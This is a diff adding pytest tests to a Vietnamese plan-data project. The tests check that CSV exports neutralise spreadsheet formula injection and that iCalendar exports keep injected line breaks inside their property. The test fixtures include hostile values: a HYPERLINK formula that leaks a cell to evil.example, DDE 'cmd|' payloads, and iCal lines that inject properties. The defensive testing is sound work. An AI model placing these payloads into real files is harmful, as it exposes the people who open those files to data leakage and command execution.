@@ -1,0 +1,109 @@
+"""Downloads opened by other programs: CSV cells never act as spreadsheet formulas, iCalendar
+text never breaks out of its property."""
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import json
+
+import icalendar
+import pytest
+
+from plankb import calendar, export, relations
+from plankb.loader import load_corpus
+from plankb.model import Node, Plan, Report
+from test_loader import FIXTURES
+
+# OWASP CSV injection: a cell starting with one of these is read as a formula.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"bấm")', "+1+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_csv_text_cells_never_start_a_formula(hostile):
+    corpus = load_corpus(FIXTURES / "minimal")
+    plan = corpus.plans["xa-a-2026"]
+    for node in plan.nodes():
+        if node.kind in ("target", "duty"):
+            node.text = hostile
+            node.measures = tuple(dataclasses.replace(m, comparator="=") for m in node.measures)
+    rel = relations.build(corpus)
+    for table in (export.targets_csv(corpus), export.duties_csv(corpus, rel)):
+        rows = _rows(table)
+        assert len(rows) == 2  # one target, one duty: a CR in the text did not start a row
+        cells = [cell for row in rows[1:] for cell in row]
+        assert [c for c in cells if c.startswith(FORMULA_START)] == []
+        assert "'" + hostile in cells  # neutralised, not rewritten: the words stay readable
+    texts = [t["text"] for t in json.loads(export.plans_json(corpus, rel))["plans"][0]["targets"]]
+    assert texts == [hostile]  # the open-data JSON keeps the plan's words verbatim
+
+
+def test_csv_numbers_stay_numbers():
+    corpus = load_corpus(FIXTURES / "minimal")
+    header, *rows = _rows(export.targets_csv(corpus))
+    assert dict(zip(header, rows[0], strict=True))["value"] == "80"
+
+
+def _plan() -> Plan:
+    return Plan("p", "Kế hoạch", "t", None, None, "a", "tinh", "x", 2022, 2025)
+
+
+def _deadline() -> calendar.Deadline:
+    node = Node("n", text="…", report=Report(("a",), ("b",), (), "hàng năm", ("trước 15/12",)))
+    return calendar.deadlines(_plan(), node)[0]
+
+
+INJECTED = ["X-INJECTED:1", "DTSTART:19700101", "ATTACH:http://evil.example/", "END:VEVENT"]
+BREAKS = ["\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]
+
+
+def _hostile(prefix: str) -> str:
+    return prefix + "".join(brk + injected for brk, injected in zip(BREAKS, INJECTED * 3, strict=False)) \
+        + "\x00\x07\x1b\x7f\x9b\ud800"
+
+
+def _unfolded(ics: str) -> list[str]:
+    lines: list[str] = []
+    for raw in ics.split("\r\n"):
+        if raw.startswith(" ") and lines:
+            lines[-1] += raw[1:]
+        else:
+            lines.append(raw)
+    return lines
+
+
+def test_ics_text_with_cr_and_controls_stays_in_its_property():
+    summary, description = _hostile("Hạn báo cáo"), _hostile("Mô tả")
+    ics = calendar.ics(_hostile("Lịch"), [(_deadline(), summary, description)])
+    # Raw: every line ends in CRLF, no bare CR or LF inside, no control character at all.
+    assert ics.endswith("\r\n")
+    for line in ics.split("\r\n"):
+        assert "\r" not in line and "\n" not in line, repr(line)
+        assert not any(ord(c) < 0x20 and c != "\t" or 0x7F <= ord(c) <= 0x9F for c in line), repr(line)
+    names = [line.split(":", 1)[0].split(";", 1)[0] for line in _unfolded(ics) if line]
+    assert names == ["BEGIN", "VERSION", "PRODID", "CALSCALE", "X-WR-CALNAME", "BEGIN", "UID", "DTSTAMP",
+                     "DTSTART", "SUMMARY", "DESCRIPTION", "RRULE", "END", "END"]
+    # Parsed: one event, the injected text is part of SUMMARY, nothing else came in.
+    cal = icalendar.Calendar.from_ical(ics.encode("utf-8"))
+    events = list(cal.walk("VEVENT"))
+    assert len(events) == 1
+    event = events[0]
+    assert "X-INJECTED" not in event and "ATTACH" not in event
+    assert str(event.decoded("DTSTART")) == "2022-12-15"
+    for name in ("SUMMARY", "DESCRIPTION"):
+        text = str(event[name])
+        assert all(injected in text for injected in INJECTED), text
+    assert str(event["SUMMARY"]).startswith("Hạn báo cáo\n")
+
+
+def test_ics_escapes_keep_ordinary_text():
+    ics = calendar.ics("Lịch", [(_deadline(), "a, b; c\\d", "dòng 1\ndòng 2")])
+    event = next(iter(icalendar.Calendar.from_ical(ics.encode("utf-8")).walk("VEVENT")))
+    assert str(event["SUMMARY"]) == "a, b; c\\d"
+    assert str(event["DESCRIPTION"]) == "dòng 1\ndòng 2"
